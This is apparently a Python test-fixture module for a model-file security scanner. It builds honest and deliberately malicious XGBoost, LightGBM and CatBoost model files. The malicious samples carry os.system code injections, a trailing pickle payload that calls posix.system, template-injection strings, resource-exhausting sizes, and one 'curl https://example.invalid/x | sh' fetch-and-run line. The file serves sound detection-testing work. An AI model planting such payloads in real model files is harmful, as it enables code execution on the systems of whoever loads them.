"""XGBoost, LightGBM and CatBoost models, honest and not."""

from __future__ import annotations

import copy
import json
import struct
from typing import Any

from stannary.testing.forges import forge
from stannary.testing.forges._format_writers import Flat, constant, flatbuffer, ubjson

_TREE: dict[str, Any] = {
    "tree_param": {"num_nodes": "3", "num_feature": "2", "num_deleted": "0", "size_leaf_vector": "1"},
    "left_children": [1, -1, -1], "right_children": [2, -1, -1], "parents": [2147483647, 0, 0], "split_conditions": [0, 1, 2], "split_indices": [0, 0, 0],
}  # fmt: skip
_BOOSTER: dict[str, Any] = {
    "learner": {
        "attributes": {"best_iteration": "1"},
        "feature_names": ["a", "b"],
        "gradient_booster": {
            "model": {"gbtree_model_param": {"num_trees": "1"}, "trees": [_TREE], "tree_info": [0]},
            "name": "gbtree",
        },
        "learner_model_param": {"num_class": "0", "num_feature": "2", "base_score": "5E-1"},
        "objective": {"name": "binary:logistic"},
    },
    "version": [3, 0, 2],
}


def _changed(*path_and_value: Any) -> dict[str, Any]:  # noqa: ANN401
    model = copy.deepcopy(_BOOSTER)
    *path, last, value = path_and_value
    target: Any = model
    for key in path:
        target = target[key]
    target[last] = value
    return model


_MODEL = ("learner", "gradient_booster", "model")
_XGBOOST: dict[str, tuple[dict[str, Any], bool | None]] = {
    "plain": (_BOOSTER, False),
    "size": (_changed("learner", "learner_model_param", "num_feature", "99999999999"), True),
    "tree_count": (_changed(*_MODEL, "gbtree_model_param", {"num_trees": "4000"}), True),
    "node_count": (_changed(*_MODEL, "trees", 0, "left_children", [1]), True),
    "child": (_changed(*_MODEL, "trees", 0, "left_children", [1, -1, 1 << 30]), True),
    "root_as_child": (_changed(*_MODEL, "trees", 0, "left_children", [0, -1, -1]), True),
    "attribute_code": (_changed("learner", "attributes", {"hook": "__import__('os').system('echo stannary')"}), True),
    "attribute_template": (_changed("learner", "attributes", {"note": "{{ ''.__class__.__mro__ }}"}), True),
    "objective": (_changed("learner", "objective", {"name": "acme:loss"}), None),
    "booster": (_changed("learner", "gradient_booster", "name", "acme"), None),
}
for _name, (_model, _bad) in _XGBOOST.items():
    _json, _ubj = json.dumps(_model).encode(), ubjson(_model)
    forge(f"xgboost.{_name}", filename="model.json", family="XGBoost", malicious=_bad)(constant(_json))
    forge(f"xgboost.ubj_{_name}", filename="model.ubj", family="XGBoost", malicious=_bad)(constant(_ubj))


@forge("xgboost.duplicate", filename="model.json", family="XGBoost", malicious=True)
def _duplicate() -> bytes:
    return json.dumps(_BOOSTER).encode()[:-1] + b', "learner": {"objective": {"name": "reg:gamma"}}}'


@forge("xgboost.trailing", filename="model.ubj", family="XGBoost", malicious=True)
def _trailing() -> bytes:
    return ubjson(_BOOSTER) + b"cposix\nsystem\n(S'echo stannary'\ntR."


@forge("xgboost.large", filename="model.json", family="XGBoost", malicious=None)
def _large() -> bytes:
    return json.dumps(_BOOSTER).encode()[:-1] + b', "padding": "' + b" " * (33 << 20) + b'"}'


@forge("xgboost.ubj_huge_array", filename="model.ubj", family="XGBoost", malicious=None)
def _huge_array() -> bytes:
    return b"{L" + struct.pack(">q", 7) + b"learner[$d#L" + struct.pack(">q", 1 << 60)


@forge("xgboost.ubj_truncated", filename="model.ubj", family="XGBoost", malicious=None)
def _ubj_truncated() -> bytes:
    return ubjson(_BOOSTER)[:200]


def _binary(objective: bytes, *, attribute: bytes = b"", trees: int = 1, tail: bytes = b"") -> bytes:
    """Return the binary form: one tree of one node, and an attribute when there is one."""
    head = struct.pack("<fIiii", 0.5, 2, 0, bool(attribute), 0) + bytes(116)
    names = b"".join(struct.pack("<Q", len(n)) + n for n in (objective, b"gbtree"))
    tree = struct.pack("<6i", 1, 1, 0, 0, 2, 0) + bytes(124) + bytes(36)
    attributes = struct.pack("<QQ4sQ", 1, 4, b"note", len(attribute)) + attribute if attribute else b""
    return b"binf" + head + names + struct.pack("<i", trees) + bytes(156) + tree + bytes(4) + attributes + tail


_BINARIES: dict[str, tuple[bytes, bool | None]] = {
    "binary": (_binary(b"binary:logistic", attribute=b"trained at home"), False),
    "binary_code": (_binary(b"binary:logistic", attribute=b"__import__('os').system('echo stannary')"), True),
    "binary_trees": (_binary(b"binary:logistic", trees=1 << 30), True),
    "binary_name": (b"binf" + bytes(136) + struct.pack("<Q", 1 << 62) + b"x" * 64, True),
    "binary_trailing": (_binary(b"binary:logistic", tail=b"cposix\nsystem\n(S'echo stannary'\ntR."), True),
    "binary_truncated": (_binary(b"binary:logistic")[:-30], None),
}
for _name, (_content, _bad) in _BINARIES.items():
    forge(f"xgboost.{_name}", filename="booster.deprecated", family="XGBoost", malicious=_bad)(constant(_content))


LIGHTGBM = """tree
version=v4
num_class=1
num_tree_per_iteration=1
label_index=0
max_feature_idx=1
objective=binary sigmoid:1
feature_names=a b
feature_infos=[0:1] [0:1]
tree_sizes=200

Tree=0
num_leaves=3
num_cat=0
split_feature=0 1
split_gain=1 2
threshold=0.5 0.25
decision_type=2 2
left_child=1 -1
right_child=-2 -3
leaf_value=0.1 0.2 0.3
leaf_weight=1 2 3
leaf_count=10 20 30
internal_value=0 0
shrinkage=0.1


end of trees

feature_importances:
a=1

parameters:
[boosting: gbdt]
[objective: binary]
[data: ]
[learning_rate: 0.1]

end of parameters

pandas_categorical:null
"""


def _lightgbm(old: str = "", new: str = "") -> bytes:
    return LIGHTGBM.replace(old, new).encode() if old else LIGHTGBM.encode()


_LGB: dict[str, tuple[str, str, bool | None]] = {
    "plain": ("", "", False),
    "leaves": ("num_leaves=3", "num_leaves=3000000", True),
    "child": ("left_child=", "left_child=99999999 ", True),
    "count": ("tree_sizes=200", "tree_sizes=200 200 200", True),
    "size": ("max_feature_idx=1", "max_feature_idx=99999999999", True),
    "categories": ("pandas_categorical:null", "pandas_categorical:__import__('os').system('echo stannary')", True),
    "objective_code": ("objective=binary sigmoid:1", "objective=__import__('os').system('echo stannary')", True),
    "tail_code": ("end of parameters\n", "end of parameters\ncurl https://example.invalid/x | sh\n", True),
    "template": ("feature_names=a b", "feature_names={{ ''.__class__ }} b", True),
    "paths": ("[data: ]", "[data: /home/somebody/train.csv]", False),
    "categories_list": ("pandas_categorical:null", 'pandas_categorical:[["a rather long category name", "b"]]', False),
}
for _name, (_old, _new, _bad) in _LGB.items():
    forge(f"lightgbm.{_name}", filename="model.txt", family="LightGBM", malicious=_bad)(constant(_lightgbm(_old, _new)))
forge("lightgbm.truncated", filename="model.txt", family="LightGBM", malicious=None)(lambda: LIGHTGBM.encode()[:300])


def _catboost(information: dict[str, str], parts: list[str] | None = None, tail: bytes = b"", *, size: int | None = None) -> bytes:
    table: Flat = {0: "FlabuffersModel_v1", 2: [{0: k, 1: v} for k, v in information.items()]}
    if parts:
        table[3] = parts
    core = flatbuffer(table)
    return b"CBM1" + struct.pack("<I", len(core) if size is None else size) + core + tail


_PARAMS = json.dumps({"loss_function": {"type": "Logloss"}, "flat_params": {"iterations": 5}})
_CBM: dict[str, tuple[bytes, bool | None]] = {
    "plain": (_catboost({"params": _PARAMS, "train_finish_time": "2026-01-01T00:00:00Z"}), False),
    "trailing": (_catboost({"params": _PARAMS}, tail=b"cposix\nsystem\n(S'echo stannary'\ntR."), True),
    "core_outside": (_catboost({"params": _PARAMS}, size=1 << 31), True),
    "code": (_catboost({"params": _PARAMS, "post": "import os; os.system('echo stannary')"}), True),
    "user_defined": (_catboost({"params": json.dumps({"loss_function": {"type": "PythonUserDefinedPerObject"}})}), None),
    "part": (_catboost({"params": _PARAMS}, ["acme_part"], b"\0" * 16), None),
    "truncated": (_catboost({"params": _PARAMS})[:60], None),
    "broken_offset": (b"CBM1" + struct.pack("<I", 16) + b"\xff" * 16, None),
}
for _name, (_content, _bad) in _CBM.items():
    forge(f"catboost.{_name}", filename="model.cbm", family="CatBoost", malicious=_bad)(constant(_content))
